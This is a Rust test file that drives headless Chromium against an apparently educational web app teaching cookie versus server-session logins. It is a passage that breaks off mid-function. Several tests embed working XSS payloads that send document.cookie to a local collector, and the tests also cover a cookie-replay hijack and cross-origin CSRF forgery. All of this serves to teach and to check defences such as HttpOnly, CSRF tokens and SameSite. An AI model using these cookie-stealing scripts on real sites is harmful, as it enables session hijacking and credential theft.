//! Real headless Chromium through WebDriver, for what only a browser decides: what
//! `document.cookie` shows, clicks and typing, frames, a phone-sized viewport. Each test starts
//! the real binary and its own chromedriver, and saves screenshots to target/screenshots/, or to
//! docs/screenshots/ (the ones the README shows) when `SESSION_LAB_REFRESH_SCREENSHOTS=1`.

use std::net::{TcpListener, TcpStream};
use std::os::unix::process::CommandExt;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use fantoccini::{Client, ClientBuilder, Locator};
use hyper_util::client::legacy::connect::HttpConnector;
use serde_json::json;
use tempfile::TempDir;

use crate::real_server::Server;

/// One Chromium, driven through its own chromedriver; closed and stopped when finished.
struct Chrome {
    client: Client,
    driver: Child,
    _profile: TempDir,
}

/// A test that fails before `finish` still stops its chromedriver and the browser: the browser
/// is chromedriver's child, which outlives chromedriver alone, so their whole process group goes.
impl Drop for Chrome {
    fn drop(&mut self) {
        let group = format!("-{}", self.driver.id());
        let _ = Command::new("kill").args(["-KILL", "--", &group]).status();
        let _ = self.driver.kill();
        let _ = self.driver.wait();
    }
}

impl Chrome {
    async fn start(width: u32, height: u32) -> Chrome {
        let port = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
        let driver = Command::new("chromedriver")
            .arg(format!("--port={port}"))
            // A process group of its own, with the browser it starts (see `Drop`).
            .process_group(0)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .expect("chromedriver is installed (./scripts/test installs chromium-driver)");
        let deadline = Instant::now() + Duration::from_secs(20);
        while TcpStream::connect(("127.0.0.1", port)).is_err() {
            assert!(Instant::now() < deadline, "chromedriver did not start");
            std::thread::sleep(Duration::from_millis(50));
        }
        let profile = tempfile::tempdir().unwrap();
        let args = [
            "--headless".to_owned(),
            "--no-sandbox".to_owned(),
            "--disable-gpu".to_owned(),
            "--disable-quic".to_owned(),
            "--no-first-run".to_owned(),
            "--disable-background-networking".to_owned(),
            "--disable-component-update".to_owned(),
            "--disable-sync".to_owned(),
            "--disable-dev-shm-usage".to_owned(),
            "--hide-scrollbars".to_owned(),
            format!("--user-data-dir={}", profile.path().display()),
            format!("--window-size={width},{height}"),
        ];
        let mut options = json!({ "binary": "/usr/bin/chromium", "args": args });
        if width < 500 {
            // A desktop window cannot be narrower than 500 px; a phone is emulated instead.
            let metrics = json!({ "width": width, "height": height, "pixelRatio": 2, "touch": true, "mobile": true });
            options["mobileEmulation"] = json!({ "deviceMetrics": metrics });
        }
        let mut capabilities = serde_json::Map::new();
        capabilities.insert("goog:chromeOptions".into(), options);
        let client = ClientBuilder::new(HttpConnector::new())
            .capabilities(capabilities)
            .connect(&format!("http://127.0.0.1:{port}"))
            .await
            .expect("a WebDriver session");
        Chrome {
            client,
            driver,
            _profile: profile,
        }
    }

    async fn finish(mut self) {
        let _ = self.client.clone().close().await;
        let _ = self.driver.kill();
        let _ = self.driver.wait();
    }

    async fn text(&self, css: &str) -> String {
        self.client.find(Locator::Css(css)).await.unwrap().text().await.unwrap()
    }

    /// Clicks the element, finding it again if a part of the page was refreshed under it (the
    /// dashboard refreshes its sessions table every few seconds).
    async fn click(&self, css: &str) {
        for _ in 0..5 {
            if let Ok(element) = self.client.find(Locator::Css(css)).await {
                if element.click().await.is_ok() {
                    return;
                }
            }
            rocket::tokio::time::sleep(Duration::from_millis(200)).await;
        }
        panic!("could not click {css}");
    }

    /// What `script`, which returns a boolean, answers.
    async fn holds(&self, script: &str) -> bool {
        let answer = self.client.execute(script, vec![]).await.unwrap();
        answer.as_bool().unwrap_or_else(|| panic!("{script} answered {answer}"))
    }

    /// The page's full width: more than the viewport means a sideways scroll.
    async fn page_width(&self) -> i64 {
        let width = self
            .client
            .execute("return document.documentElement.scrollWidth", vec![])
            .await;
        width.unwrap().as_i64().unwrap()
    }

    /// Types into the field that `css` finds.
    async fn type_into(&self, css: &str, text: &str) {
        let field = self.client.find(Locator::Css(css)).await.unwrap();
        field.send_keys(text).await.unwrap();
    }

    /// Clicks a control that submits a form and waits until the next page has loaded.
    async fn click_and_load(&self, css: &str) {
        self.client
            .execute("window.sessionLabOldPage = true", vec![])
            .await
            .unwrap();
        self.click(css).await;
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            let old = self
                .client
                .execute("return window.sessionLabOldPage === true", vec![])
                .await
                .ok()
                .and_then(|v| v.as_bool());
            if old == Some(false) {
                return;
            }
            assert!(Instant::now() < deadline, "{css} did not lead to a new page");
            rocket::tokio::time::sleep(Duration::from_millis(50)).await;
        }
    }

    async fn document_cookie(&self) -> String {
        self.client
            .execute("return document.cookie", vec![])
            .await
            .unwrap()
            .as_str()
            .expect("document.cookie is a string")
            .to_owned()
    }

    /// Types into the login form on the current page and submits it with a click.
    async fn log_in(&self, username: &str, password: &str) {
        self.client
            .find(Locator::Css("#username"))
            .await
            .unwrap()
            .send_keys(username)
            .await
            .unwrap();
        self.client
            .find(Locator::Css("#password"))
            .await
            .unwrap()
            .send_keys(password)
            .await
            .unwrap();
        self.click("form.card button[type=submit]").await;
    }

    /// Logs `abc` in to each flow through its login page, by typing and clicking.
    async fn log_in_to(&self, server: &Server, flows: &[&str]) {
        for flow in flows {
            self.client.goto(&server.url(&format!("/{flow}/login"))).await.unwrap();
            self.log_in("abc", "1234").await;
            self.wait_for_text("main", "You are logged in as abc.").await;
        }
    }

    /// Waits until `script`, which returns a boolean, answers true.
    async fn wait_until(&self, script: &str) {
        let deadline = Instant::now() + Duration::from_secs(10);
        while !self.holds(script).await {
            assert!(Instant::now() < deadline, "never true: {script}");
            rocket::tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }

    /// Waits until the element's text contains `needle`.
    async fn wait_for_text(&self, css: &str, needle: &str) -> String {
        let deadline = Instant::now() + Duration::from_secs(10);
        loop {
            if let Ok(element) = self.client.find(Locator::Css(css)).await {
                let text = element.text().await.unwrap_or_default();
                if text.contains(needle) {
                    return text;
                }
                assert!(
                    Instant::now() < deadline,
                    "{css} never showed {needle:?}; it shows {text:?}"
                );
            }
            assert!(Instant::now() < deadline, "{css} never appeared");
            rocket::tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }

    async fn rect(&self, css: &str) -> (f64, f64, f64, f64) {
        self.client
            .find(Locator::Css(css))
            .await
            .unwrap()
            .rectangle()
            .await
            .unwrap()
    }

    async fn screenshot(&self, name: &str) {
        let top = "window.scrollTo(0, 0); document.querySelectorAll('iframe').forEach(function (f) { f.contentWindow.scrollTo(0, 0); });";
        self.client.execute(top, vec![]).await.unwrap();
        let png = self.client.screenshot().await.unwrap();
        std::fs::write(screenshot_path(name), png).unwrap();
    }
}

/// Where a screenshot goes: target/screenshots/, unless the committed ones are to be refreshed.
fn screenshot_path(name: &str) -> String {
    let root = env!("CARGO_MANIFEST_DIR");
    let folder = if std::env::var_os("SESSION_LAB_REFRESH_SCREENSHOTS").is_some() {
        format!("{root}/docs/screenshots")
    } else {
        format!("{root}/target/screenshots")
    };
    std::fs::create_dir_all(&folder).unwrap();
    format!("{folder}/{name}.png")
}

fn block_on<F: std::future::Future<Output = ()>>(test: F) {
    rocket::tokio::runtime::Builder::new_multi_thread()
        .worker_threads(2)
        .enable_all()
        .build()
        .unwrap()
        .block_on(test);
}

fn server() -> Server {
    Server::start(&[
        ("ROCKET_INSTRUCTOR_PASSWORD", "teacher-pass"),
        ("ROCKET_INSTANCE_NAME", "classroom"),
    ])
}

#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn students_log_in_by_typing_and_javascript_sees_only_the_cookie_flow() {
    block_on(async {
        let server = server();
        let chrome = Chrome::start(1366, 900).await;

        chrome.client.goto(&server.url("/cookie/login")).await.unwrap();
        chrome.log_in("abc", "1234").await;
        chrome.wait_for_text("main", "You are logged in as abc.").await;
        assert_eq!(chrome.client.current_url().await.unwrap().path(), "/cookie");
        let seen = chrome.document_cookie().await;
        assert!(
            seen.contains("username=abc") && seen.contains("password=1234"),
            "{seen}"
        );
        let pane = chrome.wait_for_text("#js-cookie", "password=1234").await;
        assert!(
            pane.contains("role=student"),
            "the page's own script printed it: {pane}"
        );
        assert!(chrome
            .text("#pane-set")
            .await
            .contains("Set-Cookie: username=abc; SameSite=Lax; Path=/cookie"));
        chrome.screenshot("inspector-cookie-flow").await;

        chrome.client.goto(&server.url("/session/login")).await.unwrap();
        chrome.log_in("abc", "1234").await;
        chrome.wait_for_text("main", "You are logged in as abc.").await;
        assert_eq!(chrome.client.current_url().await.unwrap().path(), "/session");
        let seen = chrome.document_cookie().await;
        assert!(
            !seen.contains("sid"),
            "HttpOnly: the browser keeps sid from scripts: {seen:?}"
        );
        // Wait until the page's own script has filled the pane (it starts with a no-script note).
        let pane = chrome.wait_for_text("#js-cookie", "document.cookie is empty").await;
        assert!(!pane.contains("sid="), "{pane}");
        let stores = chrome.text("#pane-stores").await;
        assert!(stores.contains("abc") && stores.contains("student"), "{stores}");
        chrome.screenshot("inspector-session-flow").await;
        chrome.finish().await;
    });
}

#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn compare_runs_both_flows_side_by_side_in_one_browser() {
    block_on(async {
        let server = server();
        let chrome = Chrome::start(1366, 768).await;
        chrome.client.goto(&server.url("/compare")).await.unwrap();
        let (cookie_x, cookie_y, cookie_w, _) = chrome.rect("#frame-cookie").await;
        let (session_x, session_y, session_w, _) = chrome.rect("#frame-session").await;
        assert!(
            cookie_x < session_x && (cookie_y - session_y).abs() < 1.0,
            "side by side"
        );
        assert!(
            session_x + session_w <= 1366.0 && cookie_w > 500.0,
            "both fit a projector's width"
        );

        for (index, flow) in [(0, "cookie"), (1, "session")] {
            chrome.client.enter_frame(index).await.unwrap();
            chrome.click(&format!("a.button[href='/{flow}/login']")).await;
            chrome
                .client
                .wait()
                .for_element(Locator::Css("#username"))
                .await
                .unwrap();
            chrome.log_in("abc", "1234").await;
            chrome.wait_for_text("main", "You are logged in as abc.").await;
            chrome.client.enter_parent_frame().await.unwrap();
        }
        chrome.wait_for_text("#fact-server-session", "abc").await;
        chrome.wait_for_text("#fact-js-cookie", "password=1234").await;
        let session_js = chrome.text("#fact-js-session").await;
        assert!(!session_js.contains("sid"), "{session_js}");
        assert_eq!(chrome.text("#fact-server-cookie").await, "nothing");
        chrome.screenshot("compare-desktop").await;

        chrome.client.enter_frame(1).await.unwrap();
        chrome.click("form[action='/session/logout'] button").await;
        chrome.wait_for_text("main", "You are not logged in.").await;
        chrome.client.enter_parent_frame().await.unwrap();
        chrome.wait_for_text("#fact-server-session", "nothing").await;
        chrome.finish().await;
    });
}

#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn a_phone_sized_viewport_stacks_the_columns() {
    block_on(async {
        let server = server();
        let chrome = Chrome::start(390, 844).await;
        chrome.client.goto(&server.url("/compare")).await.unwrap();
        let width: f64 = chrome
            .client
            .execute("return window.innerWidth", vec![])
            .await
            .unwrap()
            .as_f64()
            .unwrap();
        assert!(width <= 400.0, "a phone-sized viewport: {width}");
        let (cookie_x, cookie_y, _, cookie_h) = chrome.rect("#frame-cookie").await;
        let (session_x, session_y, session_w, _) = chrome.rect("#frame-session").await;
        assert!(
            session_y >= cookie_y + cookie_h - 1.0,
            "stacked: {cookie_y}+{cookie_h} then {session_y}"
        );
        assert!(
            (cookie_x - session_x).abs() < 1.0 && session_w <= width,
            "one column, within the screen"
        );
        chrome.screenshot("compare-phone").await;

        // With the third column, the facts table becomes one card per question: every flow's
        // answer within the screen, nothing to scroll sideways inside the table either.
        chrome.client.goto(&server.url("/compare?third=signed")).await.unwrap();
        let (signed_x, _, signed_w, _) = chrome.rect("#fact-bytes-signed").await;
        assert!(
            signed_x >= 0.0 && signed_x + signed_w <= width,
            "the signed answer: {signed_x}+{signed_w}"
        );
        let scrolls = chrome
            .holds(
                "const wrap = document.querySelector('#facts .table-wrap'); return wrap.scrollWidth > wrap.clientWidth",
            )
            .await;
        assert!(!scrolls, "the facts table fits without a sideways scroll");

        chrome.client.goto(&server.url("/session/login")).await.unwrap();
        let (_, form_y, _, form_h) = chrome.rect("form.card").await;
        let (_, inspector_y, inspector_w, _) = chrome.rect(".inspector").await;
        assert!(
            inspector_y > form_y + form_h - 1.0 && inspector_w <= width,
            "the inspector goes under the form"
        );
        let overflow = chrome
            .holds("return document.documentElement.scrollWidth > window.innerWidth")
            .await;
        assert!(!overflow, "nothing sticks out sideways");
        chrome.finish().await;
    });
}

#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn the_language_switch_changes_the_page_text() {
    block_on(async {
        let server = server();
        let chrome = Chrome::start(1366, 768).await;
        chrome.client.goto(&server.url("/")).await.unwrap();
        assert!(chrome.text("h1").await.contains("where does your login live?"));
        chrome.click(".lang-switch a").await;
        chrome.wait_for_text("h1", "쿠키일까 세션일까").await;
        chrome.client.goto(&server.url("/explain")).await.unwrap();
        assert!(
            chrome.text("h1").await.contains("작동 원리"),
            "the choice is remembered"
        );
        chrome.click(".lang-switch a").await;
        chrome.wait_for_text("h1", "How it works").await;
        chrome.finish().await;
    });
}

#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn explain_shows_numbers_measured_on_this_browsers_requests() {
    block_on(async {
        let server = server();
        let chrome = Chrome::start(1366, 2600).await;
        chrome.log_in_to(&server, &["cookie", "session"]).await;
        // Once more on the cookie flow, now that the browser holds every cookie it will send.
        chrome.client.goto(&server.url("/cookie")).await.unwrap();
        chrome.client.goto(&server.url("/explain")).await.unwrap();
        let cookie_bytes: u64 = chrome.text("#bytes-cookie-last").await.parse().unwrap();
        let session_bytes: u64 = chrome.text("#bytes-session-last").await.parse().unwrap();
        // What this browser sends of each flow's own cookies, as the flow's inspector counts it.
        let sent = |flow: &'static str| {
            let script = format!(
                "return fetch('/{flow}/inspect', {{credentials: 'same-origin'}}).then(r => r.json()).then(j => j.flow_cookie_bytes)"
            );
            let client = chrome.client.clone();
            async move { client.execute(&script, vec![]).await.unwrap().as_u64().unwrap() }
        };
        assert_eq!(
            cookie_bytes,
            sent("cookie").await,
            "the cookie flow's last request, measured"
        );
        assert_eq!(
            session_bytes,
            sent("session").await,
            "the session flow's last request, measured"
        );
        // abc's three cookies (41 bytes) and one sid (47): about the same size on the wire. What
        // differs is what they say, not how long they are.
        assert!(
            cookie_bytes.abs_diff(session_bytes) < 20,
            "the flows' own cookies are about the same size: {cookie_bytes} vs {session_bytes}"
        );
        chrome.screenshot("explain").await;
        chrome.finish().await;
    });
}

#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn the_cookie_editor_opens_the_cookie_staff_page_only() {
    block_on(async {
        let server = server();
        let chrome = Chrome::start(1366, 1400).await;
        chrome.log_in_to(&server, &["cookie", "session"]).await;
        chrome.client.goto(&server.url("/lab/tamper")).await.unwrap();
        chrome.click("form.editor button").await;
        chrome
            .wait_for_text("#editor", "Your browser now holds the role you typed.")
            .await;
        assert!(
            chrome.document_cookie().await.is_empty(),
            "this page's script sees no /cookie cookies"
        );
        // The result of Set, at the top of the screen the click leads to.
        chrome.wait_for_text("[data-staff='cookie']", "200").await;
        chrome.wait_for_text("[data-staff='session']", "403").await;
        chrome
            .assert_on_screen("#staff-results", "the staff pages' answers are on screen after Set")
            .await;

        chrome.client.enter_frame(0).await.unwrap();
        chrome.wait_for_text("main", "Welcome to the staff room.").await;
        chrome.client.enter_parent_frame().await.unwrap();
        chrome.client.enter_frame(1).await.unwrap();
        chrome.wait_for_text("main", "Only instructors may enter.").await;
        chrome.client.enter_parent_frame().await.unwrap();
        chrome
            .client
            .execute("document.getElementById('editor').scrollIntoView()", vec![])
            .await
            .unwrap();
        let png = chrome.client.screenshot().await.unwrap();
        std::fs::write(screenshot_path("lab-tamper"), png).unwrap();
        chrome.finish().await;
    });
}

#[test]
#[ignore = "needs chromium, chromium-driver and redis-server; run ./scripts/test"]
fn the_dashboard_on_one_instance_shows_logins_on_another_and_says_when_its_feed_is_reconnecting() {
    block_on(async {
        let mut redis = crate::redis_server::RedisServer::start();
        let prefix = crate::redis_server::unique_prefix();
        let instance = |name: &str| {
            Server::start(&[
                ("ROCKET_INSTRUCTOR_PASSWORD", "teacher-pass"),
                ("ROCKET_INSTANCE_NAME", name),
                ("ROCKET_SESSION_STORE", "redis"),
                ("ROCKET_REDIS_URL", &redis.url()),
                ("ROCKET_REDIS_PREFIX", &prefix),
            ])
        };
        let (a, b) = (instance("a"), instance("b"));
        let chrome = Chrome::start(1366, 768).await;
        chrome.client.goto(&a.url("/session/login")).await.unwrap();
        chrome.log_in("teacher", "teacher-pass").await;
        chrome.wait_for_text("#feed", "Live").await;

        let login = b.post("/session/login", "username=abc&password=1234", None);
        assert_eq!(login.status, 303);
        chrome.wait_for_text("#events", "abc logged in (session flow)").await;

        let mut connection = redis::Client::open(redis.url()).unwrap().get_connection().unwrap();
        let _: () = redis::cmd("SAVE").query(&mut connection).unwrap();
        redis.stop();
        chrome.wait_for_text("#feed", "Reconnecting").await;
        chrome.screenshot("instructor-feed-reconnecting").await;
        redis.restart();
        chrome.wait_for_text("#feed", "Live").await;
        let register = b.post("/register", "username=late&password=late-pw-1234", None);
        assert_eq!(register.status, 303, "{}", register.body);
        let login = b.post("/session/login", "username=late&password=late-pw-1234", None);
        assert_eq!(login.status, 303);
        chrome.wait_for_text("#events", "late logged in (session flow)").await;
        chrome.finish().await;
    });
}

#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn the_dashboard_shows_a_students_login_as_it_happens() {
    block_on(async {
        let server = server();
        let chrome = Chrome::start(1366, 900).await;
        chrome.client.goto(&server.url("/session/login")).await.unwrap();
        chrome.log_in("teacher", "teacher-pass").await;
        chrome.wait_for_text("h1", "Instructor dashboard").await;
        rocket::tokio::time::sleep(Duration::from_millis(300)).await;

        // The page is not reloaded: the event arrives over the open stream (how fast is for
        // the benchmarks; the wait below only keeps a broken stream from hanging the test).
        let login = server.post("/session/login", "username=abc&password=1234", None);
        assert_eq!(login.status, 303);
        chrome.wait_for_text("#events", "abc logged in (session flow)").await;
        let failed = server.post("/cookie/login", "username=mallory&password=guess", None);
        assert_eq!(failed.status, 401);
        chrome
            .wait_for_text("#events", "failed login as \"mallory\" (cookie flow)")
            .await;
        chrome.screenshot("instructor-dashboard").await;
        chrome.finish().await;
    });
}

#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn an_xss_post_sends_the_cookie_flow_password_to_the_collector_and_no_sid() {
    block_on(async {
        let server = server();
        let chrome = Chrome::start(1366, 900).await;
        let payload = "<script>fetch('/lab/stolen', {method: 'POST', body: 'stolen: ' + document.cookie})</script>";
        for flow in ["cookie", "session"] {
            chrome
                .client
                .goto(&server.url(&format!("/{flow}/login")))
                .await
                .unwrap();
            chrome.log_in("abc", "1234").await;
            chrome.wait_for_text("main", "You are logged in as abc.").await;
            chrome
                .client
                .goto(&server.url(&format!("/{flow}/board")))
                .await
                .unwrap();
            chrome.type_into("#post-body", payload).await;
            chrome.click("form.card button[type=submit]").await;
            chrome.wait_for_text(".posts", "#").await;
            rocket::tokio::time::sleep(Duration::from_millis(500)).await;
        }
        chrome.client.goto(&server.url("/lab/stolen")).await.unwrap();
        let loot = chrome.wait_for_text("#loot", "password=1234").await;
        assert!(loot.contains("username=abc") && loot.contains("role=student"), "{loot}");
        let records = chrome.client.find_all(Locator::Css("#loot li")).await.unwrap();
        assert_eq!(records.len(), 2, "one record per board: {loot}");
        assert!(
            !loot.contains("sid="),
            "the session board's script found no sid: {loot}"
        );
        chrome.screenshot("lab-xss-collector").await;

        // The lesson's own script, copied from the lesson page: right after posting, the board
        // shows what it sent.
        chrome.client.goto(&server.url("/lab/xss")).await.unwrap();
        let lesson_payload = chrome.text("#payload").await;
        chrome.click("a.button[href='/cookie/board']").await;
        chrome.type_into("#post-body", &lesson_payload).await;
        chrome.click("form.card button[type=submit]").await;
        let shown = chrome.wait_for_text("#feedback-data", "password=1234").await;
        assert!(shown.contains("username=abc"), "{shown}");
        assert!(in_viewport(&chrome, "#feedback").await || in_viewport(&chrome, "#feedback-data").await);
        chrome.finish().await;
    });
}

/// What the board script below found it could do, read from the page it ran in.
async fn marks(chrome: &Chrome) -> serde_json::Value {
    chrome
        .client
        .execute("return Object.assign({}, document.body.dataset)", vec![])
        .await
        .unwrap()
}

/// The issue's chain, in real Chromium: a student's post tries to read the dashboard and the
/// guess page, open a window, and send what it found away. It runs in the student's own browser
/// (only the collector is reachable), never in the instructor's, even with the class board on;
/// and a dashboard control that a script submits without a click is refused.
#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn a_board_script_never_acts_with_the_instructors_authority() {
    const ATTACK: &str = r#"<script>
var mark = document.body.dataset, post = document.currentScript.closest("[data-post]");
mark.ran = "yes";
fetch("/instructor").then(function () { mark.dashboard = "read"; }, function () { mark.dashboard = "blocked"; });
fetch("/lab/guess").then(function () { mark.guess = "read"; }, function () { mark.guess = "blocked"; });
var w = null; try { w = window.open("/instructor"); } catch (e) {}
mark.popup = w ? "opened" : "blocked";
fetch(post.dataset.collector, {method: "POST", body: "found: " + document.cookie}).then(function () { mark.collector = "sent"; }, function () { mark.collector = "blocked"; });
</script>"#;
    block_on(async {
        let server = server();
        let student = Chrome::start(1366, 900).await;
        student.log_in_to(&server, &["cookie"]).await;
        student.client.goto(&server.url("/cookie/board")).await.unwrap();
        student
            .client
            .find(Locator::Css("#post-body"))
            .await
            .unwrap()
            .send_keys(ATTACK)
            .await
            .unwrap();
        student.click("form.card button[type=submit]").await;
        student.wait_for_text(".posts", "#1").await;
        let deadline = Instant::now() + Duration::from_secs(10);
        let found = loop {
            let found = marks(&student).await;
            if ["dashboard", "guess", "collector"]
                .iter()
                .all(|k| found.get(k).is_some())
            {
                break found;
            }
            assert!(Instant::now() < deadline, "the script did not finish: {found}");
            rocket::tokio::time::sleep(Duration::from_millis(100)).await;
        };
        assert_eq!(
            found["ran"], "yes",
            "positive control: the author's post runs for its author"
        );
        assert_eq!(found["dashboard"], "blocked", "{found}");
        assert_eq!(found["guess"], "blocked", "{found}");
        assert_eq!(found["popup"], "blocked", "{found}");
        assert_eq!(found["collector"], "sent", "only the collector is reachable: {found}");

        let teacher = Chrome::start(1366, 900).await;
        teacher.client.goto(&server.url("/session/login")).await.unwrap();
        teacher.log_in("teacher", "teacher-pass").await;
        teacher.wait_for_text("h1", "Instructor dashboard").await;
        teacher
            .click("form[action='/instructor/preset/class-board'] button")
            .await;
        teacher.wait_for_text("#presets", "Class board ON").await;
        teacher.client.goto(&server.url("/cookie/board")).await.unwrap();
        teacher.wait_for_text(".posts", "mark.ran").await;
        rocket::tokio::time::sleep(Duration::from_millis(1000)).await;
        let found = marks(&teacher).await;
        assert!(
            found.get("ran").is_none(),
            "the post ran in the instructor's browser: {found}"
        );

        // A control submitted by a script on the dashboard itself, without a click: refused.
        teacher.client.goto(&server.url("/instructor")).await.unwrap();
        teacher.wait_for_text("h1", "Instructor dashboard").await;
        teacher
            .client
            .execute(
                "document.querySelector(\"form[action='/instructor/preset/weak-ids']\").submit()",
                vec![],
            )
            .await
            .unwrap();
        teacher.wait_for_text("main", "only when a person clicks them").await;
        teacher.client.goto(&server.url("/instructor")).await.unwrap();
        let presets = teacher.text("#presets").await;
        assert!(presets.contains("Switch on weak"), "still off: {presets}");
        teacher.click("form[action='/instructor/preset/weak-ids'] button").await;
        teacher.wait_for_text("#presets", "Switch weak ids off").await;
        teacher.finish().await;
        student.finish().await;
    });
}

/// The hijack lesson as a student does it: copy the whole "JavaScript can read" pane, paste it,
/// replay. The paste is still there after the page reloads, so the next replay needs no copy.
#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn a_student_replays_the_pane_exactly_as_copied() {
    block_on(async {
        let server = server();
        let chrome = Chrome::start(1366, 900).await;
        chrome.log_in_to(&server, &["cookie"]).await;
        let pane = chrome.wait_for_text("#js-cookie", "password=1234").await;
        assert!(pane.starts_with("document.cookie"), "the whole pane: {pane:?}");
        chrome.client.goto(&server.url("/lab/hijack")).await.unwrap();
        chrome.type_into("#stolen-cookies", &pane).await;
        chrome.click("form[action='/lab/hijack/replay-cookie'] button").await;
        chrome
            .wait_for_text("#attacker", "The attacker is logged in as abc.")
            .await;
        let kept = chrome
            .client
            .execute("return document.getElementById('stolen-cookies').value", vec![])
            .await
            .unwrap();
        assert!(kept.as_str().unwrap_or_default().contains("password=1234"), "{kept}");
        chrome.finish().await;
    });
}

/// Whether the element is (at least partly) inside the viewport as the page stands now.
async fn in_viewport(chrome: &Chrome, css: &str) -> bool {
    let script = format!(
        "var r = document.querySelector({css:?}).getBoundingClientRect(); return r.bottom > 0 && r.top < window.innerHeight;"
    );
    chrome.holds(&script).await
}

/// The CSRF lesson, by its own buttons only: the attacker's site (this server's second listener,
/// another origin) posts to each flow; the cookie flow does what it asks, the session flow's
/// token refuses it, SameSite decides what a page of another site gets, and the real login is
/// closed to other origins.
#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn the_csrf_lesson_forges_from_another_origin_and_the_session_token_refuses_it() {
    block_on(async {
        let server = server();
        let chrome = Chrome::start(1366, 768).await;
        chrome.log_in_to(&server, &["cookie", "session"]).await;
        let lesson = server.url("/lab/csrf");
        chrome.client.goto(&lesson).await.unwrap();
        chrome.wait_for_text("#logged-in", "cookie: abc").await;

        // Step 2: same site, another port; the cookie flow's button.
        chrome.click("#open-same-site").await;
        chrome.wait_for_text("h1", "you have won").await;
        let site = chrome.client.current_url().await.unwrap();
        assert_ne!(
            site.port(),
            Some(server.port),
            "the attacker's site is another origin: {site}"
        );
        chrome.click("form[action$='/cookie/csrf'] button").await;
        chrome.wait_for_text("#results li:first-child", "DONE as abc").await;
        chrome
            .assert_on_screen("#results li:first-child", "the result is what the student sees first")
            .await;
        chrome.screenshot("lab-csrf-done").await;

        // Step 3: the session flow's button: the sid went along, the token did not.
        chrome.click("#open-same-site").await;
        chrome.wait_for_text("h1", "you have won").await;
        chrome.click("form[action$='/session/csrf'] button").await;
        let refused = chrome.wait_for_text("#results li:first-child", "REFUSED").await;
        assert!(refused.contains("sid"), "{refused}");

        // Step 4: another site (localhost): SameSite=Lax keeps the cookie flow's cookies at home.
        chrome.click("#open-cross-site").await;
        chrome.wait_for_text("h1", "you have won").await;
        assert_eq!(chrome.client.current_url().await.unwrap().host_str(), Some("localhost"));
        chrome.click("form[action$='/cookie/csrf'] button").await;
        chrome.wait_for_text("#results li:first-child", "NOT LOGGED IN").await;

        // Step 5: SameSite=None lets them go; the forged request is done again.
        chrome.click("#samesite button[value='None']").await;
        chrome.wait_for_text("#samesite", "SameSite=None").await;
        chrome.click("#open-cross-site").await;
        chrome.wait_for_text("h1", "you have won").await;
        chrome.click("form[action$='/cookie/csrf'] button").await;
        chrome.wait_for_text("#results li:first-child", "DONE as abc").await;

        // Step 6: login CSRF against the real login is refused.
        chrome.client.goto(&lesson).await.unwrap();
        chrome.click("#open-same-site").await;
        chrome.wait_for_text("h1", "you have won").await;
        chrome.click("form[action$='/session/login'] button").await;
        chrome.wait_for_text("main", "came from a page of another site").await;
        chrome.finish().await;
    });
}

#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn the_csrf_lesson_works_on_a_korean_phone() {
    block_on(async {
        let server = server();
        let chrome = Chrome::start(390, 844).await;
        chrome.client.goto(&server.url("/lab/csrf?lang=ko")).await.unwrap();
        chrome.click("a.button[href='/cookie/login']").await;
        chrome.log_in("abc", "1234").await;
        chrome.wait_for_text("main", "abc 계정으로 로그인했습니다.").await;
        chrome.client.goto(&server.url("/lab/csrf")).await.unwrap();
        chrome.click("#open-same-site").await;
        chrome.wait_for_text("h1", "당첨").await;
        chrome.click("form[action$='/cookie/csrf'] button").await;
        let done = chrome.wait_for_text("#results li:first-child", "실행됨").await;
        assert!(done.contains("abc"), "{done}");
        chrome.assert_on_screen("#results li:first-child", "the result").await;
        chrome.assert_fits(390, "ko").await;
        chrome.screenshot("lab-csrf-ko-phone").await;
        chrome.finish().await;
    });
}

/// The dashboard on a 1366×768 projector with 30 sessions: the count, the event feed and the
/// presets are on the first screen, and Revoke, a preset and Reset work in place: no
/// navigation, and the feed keeps the events it had.
#[test]
#[ignore = "needs chromium and chromium-driver; run ./scripts/test"]
fn the_dashboard_fits_a_projector_and_its_controls_keep_the_page() {
    block_on(async {
        let server = server();
        for _ in 0..30 {
            assert_eq!(
                server.post("/session/login", "username=abc&password=1234", None).status,
                303
            );
        }
        let chrome = Chrome::start(1366, 768).await;
        chrome.client.goto(&server.url("/session/login")).await.unwrap();
        chrome.log_in("teacher", "teacher-pass").await;
        // The instructor's login lands on the dashboard itself.
        chrome.wait_for_text("h1", "Instructor dashboard").await;
        chrome.wait_for_displayed("#nav-dashboard", true).await;
        chrome.click_and_load("nav a[href='/lab']").await;
        chrome.wait_for_displayed("#nav-dashboard", true).await;
        chrome.click_and_load("nav a.to-session").await;
        chrome.wait_for_text("main", "You are logged in as teacher.").await;
        chrome.click("#open-dashboard").await;
        chrome.wait_for_text("#live-count", "31").await;
        chrome.screenshot("instructor-dashboard-projector").await;
        for part in [
            "#live-count",
            "#events",
            "#presets form[action$='/preset/expiry'] button",
            "#presets form[action$='/reset'] button",
        ] {
            let (_, y, _, height) = chrome.rect(part).await;
            assert!(
                y + height <= 768.0,
                "{part} is on the first screen (bottom at {})",
                y + height
            );
        }

        // Something in the feed first, then a mark that only survives if the page does.
        assert_eq!(
            server.post("/session/login", "username=abc&password=1234", None).status,
            303
        );
        chrome.wait_for_text("#events", "abc logged in").await;
        chrome
            .client
            .execute("window.sessionLabMark = 'still here'", vec![])
            .await
            .unwrap();
        let kept = |chrome: &Chrome| {
            let client = chrome.client.clone();
